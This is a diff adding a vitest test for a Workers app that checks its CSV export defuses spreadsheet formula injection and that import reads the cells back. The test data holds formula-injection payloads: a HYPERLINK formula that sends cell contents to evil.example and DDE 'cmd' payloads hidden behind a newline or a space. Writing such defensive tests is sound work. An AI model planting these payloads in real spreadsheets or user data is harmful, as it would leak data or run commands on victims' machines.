@@ -1,4 +1,5 @@
 import { env, exports } from "cloudflare:workers";
+import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
 import { addAccount, addMember, call, signUp, type Workspace } from "../helpers/api";
 
@@ -172,4 +173,23 @@ describe("spreadsheet planning", () => {
 		const exported = await exportCsv(ws);
 		expect(exported.text.trim().split("\r\n")).toHaveLength(5001);
 	}, 120_000);
+});
+
+describe("spreadsheet export: the formula guard covers every cell", () => {
+	it("defuses bodies that start with a newline or hide a formula behind a newline or a space, and the import reads them back", async () => {
+		const a = await signUp();
+		const acc = await addAccount(a, { handle: "@desk" });
+		const bodies = ['=HYPERLINK("https://evil.example/?"&A1,"Click")\n', "\n=cmd|' /C calc'!A0", " @SUM(1+1)*cmd|' /C calc'!A0", "\t+1+1"];
+		for (const body of bodies) expect((await call("POST", "/posts", { token: a.token, json: { accountId: acc.id, body } })).status).toBe(201);
+		const csv = await exportCsv(a);
+		const cells = (Papa.parse<string[]>(csv.text, { skipEmptyLines: true }).data as string[][]).slice(1).map((row) => row[1]);
+		expect(cells.sort()).toEqual(bodies.map((b) => `'${b}`).sort());
+
+		const b = await signUp();
+		await addAccount(b, { handle: "@desk" });
+		const imported = await importCsv(b, csv.text);
+		expect(imported.status, JSON.stringify(imported.body)).toBe(201);
+		const back = (await call("GET", "/posts?limit=50", { token: b.token })).body.items.map((p: { body: string }) => p.body);
+		expect(back.sort()).toEqual([...bodies].sort());
+	});
 });
